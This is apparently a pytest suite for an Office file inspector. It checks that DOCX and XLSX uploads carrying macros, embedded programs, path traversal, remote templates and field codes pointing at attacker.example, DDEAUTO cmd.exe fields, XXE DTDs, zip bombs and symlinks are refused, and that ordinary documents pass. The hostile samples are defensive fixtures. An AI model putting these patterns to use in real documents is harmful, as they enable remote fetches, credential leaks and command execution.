"""Word and Excel files: text, pictures, charts and links are taken; macros, programs and remote parts are not."""

import gzip
import io
import zipfile
import zlib

import pytest

from services.common import limits
from services.common.errors import UnsupportedMedia
from services.documents.files.inspect.office import DOCX, XLSX
from services.documents.files.refusals import OfficeUnsafe, TooLargeInside
from services.documents.tests.samples import image, kind_of, office

RELATIONS = "word/_rels/document.xml.rels"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
PROGRAM = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0"


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    text = f'<R xmlns="x"><Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="{mode}"/></R>'
    return text.replace("R xmlns", "Relationships xmlns").replace("</R>", "</Relationships>").encode()


def body(text: str) -> bytes:
    return f"<w:document {WORD}><w:body><w:p>{text}</w:p></w:body></w:document>".encode()


def code(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def turn(to: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{to}"/></w:r>'


UNSAFE: list[dict[str, bytes]] = [
    {"word/vbaProject.bin": b"x"},
    {"word/embeddings/oleObject1.bin": b"x"},
    {"word/embeddings/program.exe": PROGRAM},
    {"word/activeX/activeX1.xml": b"<x/>"},
    {"word/media/image1.png": office()},
    {"word/media/image1.png": b"MZ\x90\x00"},
    {"word/printerSettings1.bin": PROGRAM},
    {"word/media/image1.emz": gzip.compress(PROGRAM)},
    {"../../etc/passwd": b"x"},
    {"/etc/passwd": b"x"},
    {"word\\..\\..\\x": b"x"},
    {"WORD/DOCUMENT.XML": b"<x/>"},
    {RELATIONS: relation(TEMPLATE, "http://attacker.example/a.dotm")},
    {RELATIONS: relation(TEMPLATE, "http://attacker.example/a.dotm", " eXternal ")},
    {RELATIONS: relation(TEMPLATE, "http://attacker.example/a.dotm", "Internal")},
    {RELATIONS: relation(TEMPLATE, "\\\\attacker.example\\a.dotm", "")},
    {"word/_rels/settings.xml.RELS": relation(TEMPLATE, "http://attacker.example/a.dotm")},
    {RELATIONS: relation(TEMPLATE, "http://attacker.example/a.dotm").decode().encode("utf-16")},
    *(
        {RELATIONS: relation(f"http://x/{kind}", "http://attacker.example/a")}
        for kind in ("oleObject", "frame", "subDocument", "image", "HYPERLINK/template", "externalLinkPath")
    ),
    {RELATIONS: relation(LINK, "file://attacker.example/share/a.docx")},
    {RELATIONS: relation(LINK, "\\\\attacker.example\\share")},
    {RELATIONS: relation(LINK, "javascript:alert(1)")},
    *(
        {RELATIONS: relation(LINK, hidden)}
        for hidden in ("%5C%5Cattacker.example", "file:%2F%2Fattacker.example/a", "f&#173;ile://attacker.example/a")
    ),
    {RELATIONS: relation(TEMPLATE, "file:///\\\\attacker.example\\a.dotm")},
    {RELATIONS: relation(TEMPLATE, "file://attacker.example/c:/a.dotm")},
    *(
        {"word/document.xml": body(turn("begin") + code(fetched) + turn("separate") + turn("end"))}
        for fetched in (
            ' INCLUDEPICTURE "http://attacker.example/a.png" \\d ',
            'IncludeText "\\\\\\\\attacker.example\\\\a.docx"',
            "IMPORT \\\\\\\\attacker.example\\\\a.png",
            'DATABASE \\d "\\\\\\\\attacker.example\\\\a.mdb"',
            'LINK Excel.Sheet.12 "C:\\\\a.xlsx"',
            'HYPERLINK "\\\\\\\\attacker.example\\\\share"',
        )
    ),
    {"word/document.xml": body('<w:fldSimple w:instr="INCLUDEPICTURE &quot;https://attacker.example/a&quot;"/>')},
    {
        "word/document.xml": body(
            turn("begin") + code("INCLUDEPICTURE ") + turn("begin") + code('QUOTE "http:"') + turn("end") + turn("end")
        )
    },
    {RELATIONS: relation("http://x/aFChunk", "chunk.html", "Internal")},
    {"word/document.xml": body('<w:altChunk r:id="r1" xmlns:r="x"/>')},
    {"word/document.xml": body('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>')},
    {"word/document.xml": body(turn("begin") + code(" dd") + code("e cmd") + turn("end"))},
    {
        "word/document.xml": body(
            turn("begin") + turn("begin") + code("QUOTE 68 68 69") + turn("end") + code("AUTO") + turn("end")
        )
    },
    {"word/header1.xml": body(turn("begin") + code("DDEAUTO") + turn("separate") + turn("end"))},
    {"word/_rels/a.rels": b'<!DOCTYPE R [<!ENTITY a "b">]><R>&a;</R>'},
    {"word/document.xml": b'<!DOCTYPE R SYSTEM "http://attacker.example/x.dtd"><R/>'},
    {"customXml/item1.xml": b'<!DOCTYPE R [<!ENTITY a "b">]><R>&a;</R>'},
    {"word/media/picture.svg": b'\xef\xbb\xbf \n<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>'},
    {"word/_rels/a.rels": b"not xml"},
    {"word/document.xml": b"<document>"},
]


@pytest.mark.parametrize("parts", UNSAFE)
def test_an_office_file_with_more_than_text_and_pictures_is_refused(parts: dict[str, bytes]) -> None:
    with pytest.raises(OfficeUnsafe):
        kind_of(office(parts=parts))


def test_a_workbook_that_calls_programs_or_other_files_is_refused() -> None:
    for parts in (
        {"xl/_rels/workbook.xml.rels": relation("http://x/externalLink", "externalLinks/externalLink1.xml", "")},
        {"xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="x"><ddeLink ddeService="cmd"/></externalLink>'},
        {"xl/connections.xml": connection('<webPr url="http://attacker.example"/>')},
        {"xl/connections.xml": connection('<dbPr connection="Data Source=\\\\attacker.example\\a"/>')},
    ):
        with pytest.raises(OfficeUnsafe):
            kind_of(office("spreadsheet", parts))


def test_a_table_made_of_another_in_the_same_workbook_is_taken() -> None:
    within = connection('<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=a"/>')
    assert kind_of(office("spreadsheet", {"xl/connections.xml": within})) == XLSX


def connection(how: str) -> bytes:
    return f'<connections xmlns="x"><connection id="1" refreshOnLoad="1">{how}</connection></connections>'.encode()


def test_macros_are_found_by_their_type_whatever_the_part_is_called() -> None:
    plain = office()
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        types = archive.read("[Content_Types].xml")
    more = b'<Default Extension="xyz" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    with pytest.raises(OfficeUnsafe, match="macros"):
        kind_of(office(parts={"[Content_Types].xml": types.replace(b"</Types>", more)}))


ORDINARY: list[dict[str, bytes]] = [
    {RELATIONS: relation(LINK, "https://dichvucong.gov.vn/")},
    {RELATIONS: relation(LINK, "mailto:motcua@example.vn")},
    {RELATIONS: relation(LINK, "file:///C:/Users/Lan/giay.docx")},
    {RELATIONS: relation("http://x/image", "media/image1.png", "Internal")},
    {RELATIONS: relation("http://x/image", "file:///C:\\Users\\Lan\\AppData\\Local\\Temp\\clip_image001.png")},
    {"word/_rels/settings.xml.rels": relation(TEMPLATE, "file:///C:\\Users\\Lan\\Templates\\Mẫu đơn.dotx")},
    *(
        {"word/document.xml": body(turn("begin") + code(pasted) + turn("separate") + turn("end"))}
        for pasted in (
            'INCLUDEPICTURE "C:\\\\Users\\\\Lan\\\\clip_image001.png" \\* MERGEFORMATINET',
            'INCLUDEPICTURE "cid:image001.png@01D7" \\* MERGEFORMATINET',
            'INCLUDEPICTURE "/var/folders/x/clip_image001.png" \\* MERGEFORMATINET',
            'HYPERLINK "https://dichvucong.gov.vn/" \\o "Cổng"',
            "TIME \\@ &quot;dd/MM/yyyy&quot;",
        )
    ),
    {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": office("spreadsheet")},
    {"word/media/image1.emz": gzip.compress(b"\x01\0\0\0" + bytes(36) + b" EMF" + bytes(100_000))},
    {"word/media/image1.wmz": gzip.compress(b"\xd7\xcd\xc6\x9a" + bytes(100))},
    {"word/media/image1.png": image("PNG"), "word/media/image2.png": image("JPEG")},
    {"word/fonts/font1.odttf": b"MZ" + bytes(range(200))},
    {"customXml/item1.bin": b"MZ by chance"},
    {"word/fonts/font2.odttf": b"\x1f\x8b" + bytes(200)},
    {"word/media/drawing.vml": b"<xml><br></xml>"},
    {"word/document.xml": body('<w:fldSimple w:instr=" REF _DDE_LINK1 "/>')},
    {"word/document.xml": body(turn("begin") + code(' HYPERLINK "https://x/dde" ') + turn("separate") + turn("end"))},
    {
        "word/document.xml": body(
            turn("begin") + code(" IF ") + turn("begin") + code("MERGEFIELD a") + turn("end") + turn("end")
        )
    },
    {"word/media/picture.svg": b"<svg/>"},
]


@pytest.mark.parametrize("parts", ORDINARY)
def test_what_ordinary_documents_hold_is_taken(parts: dict[str, bytes]) -> None:
    assert kind_of(office(parts=parts)) == DOCX


def test_a_table_behind_a_chart_is_looked_into_as_the_document_is() -> None:
    for inner in (
        office("spreadsheet", {"xl/vbaProject.bin": b"x"}),
        office("spreadsheet", {"xl/embeddings/Microsoft_Excel_Worksheet.xlsx": office("spreadsheet")}),
        b"not a table",
    ):
        with pytest.raises(UnsupportedMedia):
            kind_of(office(parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": inner}))


def test_documents_inside_count_towards_what_a_file_may_unpack_to(monkeypatch: pytest.MonkeyPatch) -> None:
    inner = office("spreadsheet", {"xl/big.bin": bytes(600_000)})
    content = office(
        parts={"word/embeddings/a.xlsx": inner, "word/media/a.emz": gzip.compress(b"\1\0\0\0" + bytes(10**6))}
    )
    assert kind_of(content) == DOCX
    monkeypatch.setattr(limits, "ARCHIVE_BYTES", 1_200_000)
    with pytest.raises(TooLargeInside):
        kind_of(content)


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_an_entry_packed_as_office_never_does_is_refused(method: int) -> None:
    with pytest.raises(OfficeUnsafe, match="packed in a way"):
        kind_of(office(compression=method))


def test_entries_are_counted_before_the_directory_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "ARCHIVE_ENTRIES", 5)
    with pytest.raises(OfficeUnsafe, match="too many parts"):
        kind_of(office(parts={f"word/{n}.xml": b"<x/>" for n in range(10)}))


def test_a_directory_longer_than_its_count_says_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    content = bytearray(office(parts={f"word/{n}.xml": b"<x/>" for n in range(10)}))
    end = content.rfind(b"PK\x05\x06")
    content[end + 8 : end + 12] = (1).to_bytes(2, "little") * 2
    monkeypatch.setattr(limits, "ARCHIVE_DIRECTORY_BYTES", 500)
    with pytest.raises(OfficeUnsafe, match="too many parts"):
        kind_of(bytes(content))


def test_an_office_file_that_unpacks_to_too_much_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(TooLargeInside):
        kind_of(office(parts={"word/big.xml": bytes(4 * limits.MIB)}))
    monkeypatch.setattr(limits, "ARCHIVE_BYTES", 100)
    with pytest.raises(TooLargeInside):
        kind_of(office())


def test_an_entry_that_is_a_symbolic_link_or_fails_its_checksum_is_refused() -> None:
    out = io.BytesIO(office(compression=zipfile.ZIP_STORED))
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    with pytest.raises(OfficeUnsafe, match="symbolic"):
        kind_of(out.getvalue())
    content = office(compression=zipfile.ZIP_STORED)
    with pytest.raises(OfficeUnsafe):
        kind_of(content.replace(b"<document/>", b"<documemt/>", 1))


@pytest.mark.parametrize("counted", [4, 5])
def test_an_entry_that_goes_on_after_the_end_its_directory_gives_is_refused(counted: int) -> None:
    """With the checksum of what is told of it, or of a byte more."""
    whole = b"<a/>" + b" " * 1_000 + b"<!-- unseen -->"
    content = office(parts={"word/more.xml": whole})
    at = content.rfind(b"word/more.xml") - 46
    told = zlib.crc32(whole[:counted]).to_bytes(4, "little"), content[at + 20 : at + 24], (4).to_bytes(4, "little")
    with pytest.raises(OfficeUnsafe, match="damaged"):
        kind_of(content[: at + 16] + b"".join(told) + content[at + 28 :])


def test_blanks_in_front_of_a_document_are_nothing() -> None:
    assert kind_of(b"\xef\xbb\xbf" + office()) == DOCX
    assert kind_of(b"\r\n" + office("spreadsheet")) == XLSX
